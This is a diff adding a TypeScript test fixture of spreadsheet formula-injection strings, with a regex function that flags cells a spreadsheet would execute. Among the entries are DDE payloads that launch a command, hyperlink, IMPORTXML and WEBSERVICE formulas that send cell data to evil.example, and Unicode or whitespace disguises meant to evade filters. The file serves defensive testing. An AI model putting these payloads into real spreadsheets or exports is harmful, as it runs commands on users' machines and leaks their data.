@@ -1,0 +1,48 @@
+/** Texts that spreadsheets have run, and their disguises. T24. */
+export const formulas = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/C calc";"x")',
+  "=SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "+91 98765 43210",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "-",
+  "@SUM(1+1)",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "@",
+  "=",
+  "==1",
+  " =1+1",
+  "   +1",
+  "\u00a0=1+1",
+  "\u3000@SUM(1)",
+  "\ufeff=1+1",
+  "\u2003-1",
+  "\t=1+1",
+  "\tplain",
+  "\r=1+1",
+  "\rplain",
+  "\n=1+1",
+  "\nplain",
+  " \tplain",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(1)",
+  " ＝1",
+  "−1",
+  "﹦1",
+  "'=1+1",
+  "''@SUM(1)",
+];
+
+/** Whether a spreadsheet would run a cell. */
+export function isActive(cell: string): boolean {
+  return /^\s*[=+\-@＝＋－＠−﹦\t\r\n]/u.test(cell);
+}
